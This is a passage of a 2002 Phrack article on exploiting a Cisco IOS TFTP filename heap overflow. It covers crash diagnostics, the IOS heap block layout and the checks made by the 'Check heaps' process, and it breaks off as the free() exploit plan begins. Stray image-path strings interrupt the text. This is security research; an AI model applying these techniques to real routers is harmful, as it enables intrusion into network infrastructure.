[ News ] [ Paper Feed ] [ Issues ] [ Authors ] [ Archives ] [ Contact ]

..[ Phrack Magazine ]..
.:: Burning the bridge: Cisco IOS exploits ::.

Issues: [ 1 ] [ 2 ] [ 3 ] [ 4 ] [ 5 ] [ 6 ] [ 7 ] [ 8 ] [ 9 ] [ 10 ] [ 11 ] [ 12 ] [ 13 ] [ 14 ] [ 15 ] [ 16 ] [ 17 ] [ 18 ] [ 19 ] [ 20 ] [ 21 ] [ 22 ] [ 23 ] [ 24 ] [ 25 ] [ 26 ] [ 27 ] [ 28 ] [ 29 ] [ 30 ] [ 31 ] [ 32 ] [ 33 ] [ 34 ] [ 35 ] [ 36 ] [ 37 ] [ 38 ] [ 39 ] [ 40 ] [ 41 ] [ 42 ] [ 43 ] [ 44 ] [ 45 ] [ 46 ] [ 47 ] [ 48 ] [ 49 ] [ 50 ] [ 51 ] [ 52 ] [ 53 ] [ 54 ] [ 55 ] [ 56 ] [ 57 ] [ 58 ] [ 59 ] [ 60 ] [ 61 ] [ 62 ] [ 63 ] [ 64 ] [ 65 ] [ 66 ] [ 67 ] [ 68 ] [ 69 ] [ 70 ]
Current issue : #60 | Release date : 2002-12-28 | Editor : Phrack Staff
IntroductionPhrack Staff
LoopbackPhrack StaffLinenoisePhrack Staff
Toolz ArmoryPacket Storm
Phrack Prophile on horizonPhrack Staff
Smashing The Kernel Stack For Fun And Profitnoir
Burning the bridge: Cisco IOS exploitsFX
Static Kernel Patchingjbtzhm
Big Loop Integer ProtectionOded Horovitz
Basic Integer Overflowsblexim
SMB/CIFS By The Rootledin
Firewall Spotting with broken CRCEd3f
Low Cost and Portable GPS Jammeranonymous author
Traffic Lightsplunkett
Phrack World NewsPhrack Staff
Phrack magazine extraction utilityPhrack Staff
Title : Burning the bridge: Cisco IOS exploits
Author : FX
                             ==PhrackInc.==

               Volume 0x0b, Issue 0x3c, Phile #0x07 of 0x10

|=---=[Burning the bridge: Cisco IOS exploits ]=---=|
|=---=[ FX of Phenoelit <fx@phenoelit.de> ]=---=|

--[ Contents

  1 - Introduction and Limitations
  2 - Identification of an overflow
  3 - IOS memory layout sniplets
  4 - A free() exploitmaterializes
  5 - Writing (shell)code for Cisco
  6 - Everything not covered in 1-5

--[ 1 - Introduction and Limitations

This article is to introduce the reader into the fun land of exploiting a
routing device made by Cisco Systems. It is not the final word on this
toppic and merely reflects our research results.

According to Cisco Systems, around 85% of all software issues in IOS are
the direct or indirect result of memory corruptions. By the time of this
writing, yours truly is not aware of one single case, where overflowingsomething in Cisco IOS led to a direct overwrite of a return address.
Although there are things like stacks in IOS, it seems to be very uncommon
for IOS coders to use local function buffers. Therefore, most (if not all)
overflows we will encounter are some way or anyother heap based.

As a fellow researcher used to say, bugs are not an unlimitedresource.
Especially overflow bugs in Cisco IOS are fairly rare and not easily
compared to each other. This article will therefore limit the discussion
to one particular bug: the Cisco IOS TFTP server filename overflow. When
using your router as a TFTP server for files in the flash filesystem, a
TFTP GET request with a long (700 characters) filename will cause the
router to crash. This happens in all IOS versions from 11.1 to 11.3. The
reader might argue the point that this is no longer a widely used branch,
but yours truly asks you to bare with him to the end of this article.

The research results and methods presented here were collected during
inspection and exploitation attempts using the already mentioned TFTP bug.
By the time of this writing, other bugs are researched and different
approaches are tested, but the here presented procedure is still seen as
the most promising for widespread use. This translates to: use your
favorite private Cisco IOS overflow and try it.--[ 2 - Identification of an overflow

While the reader is probably used to identify stack smashing in a split
second on a commonly used operating system, he might have difficulties
identifying an overflow in IOS. As yours truly already mentioned, most
overflows are heap based. There are two different ways in IOS to identify
a heap overflow when it happens. Being connected to the console, thereader might see output like this:01:14:16: %SYS-3-OVERRUN: Block overrun at 2C01E14 (red zone 41414141)
-Traceback= 80CCC46 80CE776 80CF1BA 80CF300
01:14:16: %SYS-6-MTRACE: mallocfree: addr, pc
  20E3ADC,80CA1D8   20DFBE0,80CA1D8   20CF4FC,80CA1D8   20C851C,80CA1D8
  20C6F20,80CA1D8   20B43FC,80CA1D8   20AE130,80CA1D8   2075214,80CA1D8
01:14:16: %SYS-6-MTRACE: mallocfree: addr, pc
  20651E0,80CA1D8   205EF04,80CA1D8   205B338,80CA1D8   205AB80,80CA1D8
  20AFCF8,80CA1C6   205A664,80CA1D8   20AC56C,80CA1C6   20B1A88,80CA1C6
01:14:16: %SYS-6-BLKINFO: Corrupted redzone blk 2C01E14, words 382,
  alloc 80ABBFC, InUse, dealloc 206E2F0, rfcnt 1

In this case, an IOS process called "Check heaps", of which we will hear
a lot more later, has identified a problem in the heap structures. After
doing so, "Check heaps" will cause what we call a software forced crash.
It means that the process kills the Cisco and makes it reboot in order
to get rid of the problem. We all know this behavior from users of
MS-DOS or Windows based systems. What happend here is that an A-Strip
overwrote a boundary between two heap memory blocks. This is protected by
what Cisco calls a "RED ZONE", which in fact is just a static canary.

The other way a heap overflow couldmanifest itself on your console is an
access violation:

*** BUS ERROR ***
access address = 0x5f227998
program counter = 0x80ad45a
status register = 0x2700
vbr at time of exception = 0x4000000
special status word = 0x0045
faulted cycle was a longword read

This is the case when you are lucky and half of the work is already done.
IOS used a value that you somehow influenced and referenced tonot
readable memory.  Unfortunately, those overflows are later harder to
exploit, since tracking is a lot more difficult.

At this point in time, you should try to figure out under which exact
circumstances the overflow happens - pretty much like with every other bug
you find. If the lower limit of your buffer size changes, try to make sure
that you don't play with the console or telnet(1) connections to the router
during your tests. The best is always to test the buffer length with a just
rebooted router. While it doesn't change much for most overflows, some
react differently when the system is freshly rebooted compared to a system
in use.

--[ 3 - IOS memory layout sniplets

To get any further with the overflow, we need to look at the way IOSorganizes memory. There are basically two main areas in IOS: process memory
and IO memory. The later is used for packet buffers, interface ring buffers
and so on and can be of interest for exploitation but does not provide some
of the critical things we are looking for. The process memory on the other
hand behaves a lot like dynamic heap memory in Linux.

Memory in IOS is split up in blocks. There seems to be a number of pointer
tables and meta structures dealing with the memory blocks and making sure
IOS can access them in an efficient way. But at the end of the day, the
blocks are hold together in a linked list structure and store their
management information mostly inline. This means, every memory block has
a header, which contains information about the block, it's previous one
and the next one in the list.

 .-- | Block A      | <-.
 |   +---+   |
 +-> | Block B      | --+
     | Block C      |

The command "show memory processor" clearly shows the linked list

A memory block itself consists of the block header with all the inline
management information, the data part where the actual data is stored
and the red zone, which we already encountered. The format is as follows:

 |<-  32 bit  ->|        Comment
 | MAGIC        |        Static value 0xAB1234CD
 | PID          |        IOS process ID
 | Alloc Check  |    Area the allocating process uses for checks
 | Alloc name   |        Pointer to string with process name| Alloc PC     |    Code address that allocated this block
 | NEXT BLOCK   |        Pointer to the next block
 | PREV BLOCK   |        Pointer to the previous block
 | BLOCK SIZE   |        Size of the block (MSB marks "in use")
 | Reference #  |        Reference count (again ???)
 | Last Deallc  |    Last deallocation address
 |   DATA       |
 |              |
 |              |
 | RED ZONE     |        Static value 0xFD0110DF

In case this memory block is used, the size field will have it's most
significant bit set to one. The size is represented in words (2 bytes),
and does not include the block overhead. The reference count field is
obviously designed to keep track of the number of processes using this
block, but yours truly has never seen this being something else then 1
or 0. Also, there seem to be no checks for this field in place.

In case the memory block is not used, some more management data is
introduced at the point where the real data was stored before:

 | MAGIC2       |        Static value 0xDEADBEEF
 | Somestuff    |
 | PADDING      |
 | PADDING      |
 | FREE NEXT    |        Pointer to the next free block
 | FREE PREV    |        Pointer to the previous free block
 |              |
 |              |
 | RED ZONE     |        Static value 0xFD0110DF

Therefore, a free block is an element in two different linked lists:
One for the blocks in general (free or not), another one for the list of
free memory blocks. In thiscase, the reference count will be zero and
the MSB of the size field is not set. Additionally, if a block was used
at least once, the data part of the block will be filled with 0x0D0D0D0D.
IOS actually overwrites the block data when a free() takes place to prevent
software issues from getting out of hand.

At this point, yours truly would like to return to the toppic of the "Check
heaps" process. It is here to run about once a minute and checks the doubly
linked lists of blocks. It basically walks them down from top to buttom to
see if everything is fine. The tests employed seem to be prettyextensive
compared to common operating systems such as Linux. As far as yours truly
knows, this is what it checks:
    1) Doest the block being with MAGIC (0xAB1234CD)?
    2) If the block is in use (MSB in size field is set), check if the
       red zone is there and contains 0xFD0110DF.
    3) Is the PREV pointer not NULL?
    4) If there is a NEXT pointer ...
    4.1) Does it point right after the end of this block?
    4.2) Does the PREV pointer in the block pointed to by NEXT point
         back to this block's NEXT pointer?
    5) If the NEXT pointer is NULL, does this block end at a memory
       region/pool boundary [NOTE: not sure about this one].
    6) Does the size make sense? [NOTE: The exact test done here is
       still unknown]

If one of these tests is not satisfied, IOS will declare itself unhappy and
perform a software forced crash. To some extend, one can find out which
test failed by taking a look at the console output line that says
"validblock_diagnose = 1". The number indicates what could be called "class
of tests", where 1 means that the MAGIC was not correct, 3 means that the
address is not in any memory pool and 5 is really a bunch of tests but
mostly indicates that the tests lined out in point 4.1 and 4.2 failed.

--[ 4 - A free() exploit materializesNow that we know a bit about the IOS memory structure, we can plan to
overflow with some more interesting data than just 0x41. The basic idea is
to overwrite the next block header, hereby provide some data to IOS, and
let it work with this data in a way that gives us control over the CPU. How
this is usually done is explained in [1]. The most important difference
here is, that we first have to make "Check heaps" happy. Unfortunately,
some of the checks are also performed when memory is allocated or free()ed.
Therefore, slipping under the timeline of one minute between two "Check
heaps" runs is not an option here.

The biggest problems are the PREV pointer check and the size field. Since
the vulnerability we are working with here is a string overflow, we alsohave the problem of not being able to use 0x00 bytes. Let's try to deal
with the issues we have one by one.

The PREV pointer has to be correct. Yours truly has not found any way to
use arbitrary values here. The check outlined in the checklist as 4.2 is a
serious problem, since it is done on the block we are sitting in - not the
one we are overflowing. To illustrate the situation:

